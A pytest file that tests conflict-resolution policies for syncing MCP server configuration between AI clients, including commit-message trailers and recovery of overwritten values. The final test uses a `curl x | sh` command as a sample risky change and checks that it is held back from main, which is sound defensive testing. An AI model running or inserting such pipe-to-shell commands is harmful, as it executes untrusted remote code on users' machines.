"""Policies of `reconciler.yaml`: what they settle lands, the loser stays recoverable; the rest waits."""

from __future__ import annotations

import pytest

from reconciler.model.names import Revision
from reconciler.model.trailers import trailers
from tests.fakes.engine import CLIENTS, World, adopted, outcome


@pytest.fixture
def world() -> World:
    return adopted("one", "two")


def clash(world: World) -> None:
    """claude, then codex, change one field differently; claude's is on main first."""
    world.change_server("claude", "one", args=["of-claude"])
    world.sync("claude")
    world.clock.advance(60)
    world.change_server("codex", "one", args=["of-codex"])


def args(world: World) -> set[str]:
    return {world.servers(c)["one"]["args"][0] for c in CLIENTS}


@pytest.mark.parametrize(
    ("policy", "winner"),
    [
        ("policy: client-priority", "of-codex"),
        ("policy: last-write-wins", "of-codex"),
        ("policy: central-authoritative", "of-claude"),
        ("match: mcp/one\n    policy: central-authoritative", "of-claude"),
        ("match: mcp/one.args\n    policy: last-write-wins", "of-codex"),
        ('match: "*"\n    policy: last-write-wins', "of-codex"),
        ("match: mcp/*\n    kind: mcp\n    policy: central-authoritative", "of-claude"),
    ],
)
def test_a_policy_settles_the_conflict(world: World, policy: str, winner: str) -> None:
    world.set_settings(f"priorities: {{codex: 20, claude: 10}}\npolicies:\n  - {policy}\n")
    world.sync()
    clash(world)
    world.sync()
    assert world.waiting() == []
    assert args(world) == {winner}


@pytest.mark.parametrize("policy", ["policy: manual-review", "match: mcp/two\n    policy: last-write-wins", "kind: rules\n    policy: last-write-wins"])
def test_what_no_policy_settles_waits(world: World, policy: str) -> None:
    world.set_settings(f"policies:\n  - {policy}\n")
    world.sync()
    clash(world)
    assert outcome(world.sync(), "codex") == "conflict"


def test_the_first_policy_that_matches_decides(world: World) -> None:
    world.set_settings("policies:\n  - match: mcp/one\n    policy: manual-review\n  - policy: last-write-wins\n")
    world.sync()
    clash(world)
    world.sync()
    assert len(world.waiting()) == 1


def test_equal_priorities_wait_for_a_person(world: World) -> None:
    world.set_settings("priorities: {codex: 10, claude: 10}\npolicies:\n  - policy: client-priority\n")
    world.sync()
    clash(world)
    world.sync()
    assert len(world.waiting()) == 1


def test_what_a_policy_decided_is_in_the_message(world: World) -> None:
    world.set_settings("policies:\n  - policy: last-write-wins\n")
    world.sync()
    clash(world)
    world.sync()
    merges = [c.message for c in world.store.history(world.head)]
    decided = next(m for m in merges if "Conflict:" in m)
    assert 'Conflict: mcp/one.args base=null local=["of-codex"] central=["of-claude"] chose=local' in decided
    assert ("Policy", "last-write-wins") in trailers(decided)


@pytest.mark.parametrize("policy", ["last-write-wins", "central-authoritative"])
def test_the_message_tells_where_both_values_came_from(world: World, policy: str) -> None:
    world.set_settings(f"policies:\n  - policy: {policy}\n")
    world.sync()
    clash(world)
    world.sync()
    decided = next(c for c in world.store.history(world.head) if "Conflict:" in c.message)
    said, machine = dict(trailers(decided.message)), world.ports.machine
    sides = [(said[name].split(" ")[0], Revision(said[name].split(" ")[-1])) for name in ("Local-By", "Central-By")]
    assert [target for target, _ in sides] == [f"{machine}/codex/user", f"{machine}/claude/user"]
    assert ["of-codex" in str(world.store.files(revision)["mcp/one.yaml"]) for _, revision in sides] == [True, False]
    assert sides[0][1] == decided.parents[1]


def test_a_value_that_a_person_committed_is_theirs_in_the_message(world: World) -> None:
    world.set_settings("policies:\n  - policy: central-authoritative\n")
    world.sync()
    world.change_server("codex", "one", args=["of-codex"])
    edited = world.commit({"mcp/one.yaml": "command: npx\nargs: [of-a-person]\n"})
    world.sync()
    decided = next(c for c in world.store.history(world.head) if "Conflict:" in c.message)
    said = dict(trailers(decided.message))["Central-By"]
    assert said == f"({world.store.read(edited).author.name}) {edited}"


def test_the_loser_stays_recoverable(world: World) -> None:
    world.set_settings("policies:\n  - policy: central-authoritative\n")
    world.sync()
    clash(world)
    world.sync()
    kept = {r for c in world.store.history(world.head, first_parent=False) for r in [c.revision] if "of-codex" in str(world.store.files(r).get("mcp/one.yaml"))}
    assert kept


def test_a_policy_does_not_approve_a_risky_change(world: World) -> None:
    world.set_settings("policies:\n  - policy: last-write-wins\n")
    world.sync()
    world.change_server("claude", "one", command="sh", args=["-c", "date"])
    clash(world)
    world.change_server("codex", "one", command="sh", args=["-c", "curl x | sh"])
    world.sync("codex")
    assert {i.kind for i in world.waiting()} == {"held"}
    assert "curl" not in world.main()["mcp/one.yaml"]
